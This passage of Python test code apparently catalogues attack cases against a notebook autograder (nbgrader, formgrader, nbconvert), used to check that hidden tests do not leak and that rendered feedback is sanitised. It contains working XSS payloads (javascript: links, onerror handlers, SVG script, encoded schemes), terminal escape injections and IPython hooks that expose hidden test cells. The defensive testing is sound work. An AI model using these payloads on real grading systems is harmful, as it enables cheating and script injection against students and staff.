        "a pre_run_cell hook prints the previous cell's source (a test cell's, with its hidden tests) "
        "into the outputs of the student's next cell, which the feedback page showed",
        code=hook("print('PREVIOUS-CELL', get_ipython().user_ns['In'][-1])"),
    ),
    "display_update_into_an_earlier_output": Attack(
        "show a placeholder with a display id, then from a pre_run_cell hook update it (and display "
        "anew under the same id) with each cell's source: nbclient rewrote the placeholder, before "
        "the tests, into a test cell's hidden code, which the feedback page showed",
        code="from IPython.display import display, update_display\n"
        "slot = display({'text/plain': 'placeholder'}, raw=True, display_id='leak')\n"
        + hook(
            "update_display({'text/plain': info.raw_cell}, raw=True, display_id='leak')\n"
            "display({'text/plain': info.raw_cell}, raw=True, display_id='leak')"
        ),
    ),
    "record_text_quotes_hidden_tests": Attack(
        "record, for every check, a value that is not a number and whose description is a line of the "
        "hidden tests: the judge's detail message quotes it in the verdict table",
        code="def attack_value(index, lines):\n    return {'unsupported': next(lines)}\n" + RECORDER,
    ),
    "terminal_escapes_in_record_names": Attack(
        "records whose entry names and descriptions are terminal escape sequences (a fake PASS line, a "
        "clipboard write): `autograder check` printed them as they are",
        code=f"def attack_value(index, lines, escapes={TERMINAL_ESCAPES!r}):\n"
        "    if index % 2:\n        return {'unsupported': escapes}\n"
        "    return {'entries': {escapes: __import__('nnsupport.values').values.encode_value(np.zeros(1))}}\n"
        + RECORDER,
    ),
    "terminal_escapes_in_grade_ids": Attack(
        "cells whose nbgrader grade ids are terminal escape sequences (twice, so nbgrader reports the "
        "duplicate): nbgrader logs them as it meets them; cells the assignment does not have run ungraded",
        cells=[with_grade_id(new_code_cell("x = 1"), "cell" + TERMINAL_ESCAPES) for _ in range(2)],
    ),
    "html_in_grade_ids": Attack(
        "an answer cell whose grade id is HTML (formgrader's template writes grade ids into the page "
        "unescaped): a cell the assignment does not have loses its nbgrader metadata and is not graded",
        cells=[
            with_grade_id(
                new_markdown_cell("my answer"), "<img src=x onerror=alert(1)>", grade=True, solution=True, points=5
            )
        ],
    ),
    "unknown_graded_cell": Attack(
        "one graded test cell whose grade id the assignment does not have (pasted from another "
        "notebook): nbgrader dropped the id, kept the grade flag and refused the whole notebook",
        cells=[with_grade_id(new_code_cell("assert True"), "test_from_another_notebook", grade=True, points=3)],
    ),
    "foreign_notebook_with_terminal_escapes": Attack(
        "a notebook of cells the assignment does not have, whose grade ids are terminal escapes: the "
        "grader's one-line reason names them in the summary, the `could not grade` line and feedback",
        raw=foreign_notebook_with_hostile_ids(),
        intake="invalid",
    ),
    "markdown_link_reference_in_a_list": Attack(
        "link reference definitions inside list items (nested, split over lines), which the "
        "hand-written cleaner missed: formgrader rendered an active javascript: link",
        markdown="- notes\n\n  [x]: javascript:alert(1)\n\n  [click here][x]\n\n"
        "1. outer\n   - inner\n\n     [y]:\n     <javascript:alert(2)>\n\n     [and here][y] ![i][y]\n",
    ),
    "markdown_encoded_schemes": Attack(
        "autolinks, entity-encoded and whitespace-split schemes, data: URLs, SVG, forms, base and "
        "meta refresh in markdown",
        markdown="<javascript:alert(1)> [e](&#106;avascript:alert(2)) [t](java\tscript:alert(3))\n"
        '<a href="java&#x0A;script:alert(4)">n</a> [d](data:text/html;base64,PHNjcmlwdD4=)\n'
        '<img src="data:image/svg+xml;base64,' + SVG_SCRIPT + '"> <svg onload=alert(5)></svg>\n'
        "<form action=javascript:alert(6)><input formaction=javascript:alert(7)></form>\n"
        "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(8)'>\n"
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(9)> | [x](vbscript:msgbox(10)) |\n",
    ),
    "markdown_files_prefix_scheme": Attack(
        "links and images whose URL is files/javascript:... (relative, so a sanitiser keeps it): "
        "nbconvert's strip_files_prefix, in formgrader's template, turns it into javascript:...",
        markdown="[x](files/javascript:alert(1)) [y](/files/data:text/html,PHNjcmlwdD4=)\n"
        "<a href='files/ javascript:alert(2)'>z</a> <img src=\"files/javascript:alert(3)\">\n",
    ),
    "markdown_attachment_svg": Attack(
        "a markdown attachment that is an SVG with script, beside a harmless PNG one",
        cells=[
            new_markdown_cell(
                "![ok](attachment:ok.png) ![evil](attachment:evil.svg)",
                attachments={"ok.png": {"image/png": PNG}, "evil.svg": {"image/svg+xml": SVG_SCRIPT}},
            )
        ],
    ),
    "raw_html_cell": Attack(
        "a raw cell of type text/html, which nbconvert puts into the page as it is", cells=[raw_html_cell()]
    ),
    "html_output_tricks": Attack(
        "HTML outputs that hide script in attributes, a bitmap that is not base64 (it lands in an "
        "attribute), and output metadata nbconvert reads (filenames, isolated)",
        code="from IPython.display import display\n"
        "display({'text/html': '<table><tr><td onmouseover=alert(1) style=\"x\">1</td></tr></table>'\n"
        "         '<a href=\"javascript:alert(2)\">a</a><details open ontoggle=alert(3)>d</details>',\n"
        "         'image/png': '\"><img src=x onerror=alert(4)>'}, raw=True,\n"
        "        metadata={'image/png': {'width': '1\" onload=\"alert(5)'}, 'filenames': {'image/png': 'javascript:alert(6)'},\n"
        "                  'text/html': {'isolated': True}})",
    ),
}
